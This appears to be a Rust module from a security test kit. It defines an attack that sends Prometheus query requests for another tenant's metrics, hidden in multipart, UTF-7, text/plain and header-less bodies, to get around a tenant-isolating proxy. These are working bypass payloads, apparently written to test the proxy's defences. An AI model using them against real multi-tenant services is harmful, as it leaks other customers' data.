//! Puts the query into a body that is no form: Prometheus reads one in parts as well.

use super::ask::{THEIRS, TIME};
use crate::kit::{Attack, told};
use crate::message::Message;

pub(crate) const ATTACK: Attack = Attack::of_query(|order| {
    let post = |target: &str, kind: &str, body: &str| {
        Message::post(&order.authority, format!("/api/v1/{target}"), body)
            .content_type(kind)
            .send()
    };
    let parts = format!(
        "--x\r\ncontent-disposition: form-data; name=\"query\"\r\n\r\n\
         backendai_container_utilization{{owner_user_id=\"tenant-b\"}}\r\n\
         --x\r\ncontent-disposition: form-data; name=\"time\"\r\n\r\n{TIME}\r\n--x--\r\n"
    );
    let form = format!("query={THEIRS}&time={TIME}");
    told([
        post("query", "multipart/form-data; boundary=x", &parts),
        post("query?query=up", "multipart/form-data; boundary=x", &parts),
        post(
            "query",
            "application/x-www-form-urlencoded; charset=utf-7",
            &form,
        ),
        post("query", "text/plain", &form),
        post("query", "", &form),
        Message::post(&order.authority, "/api/v1/query", form.as_str())
            .field("content-type", "text/plain")
            .send(),
    ])
});
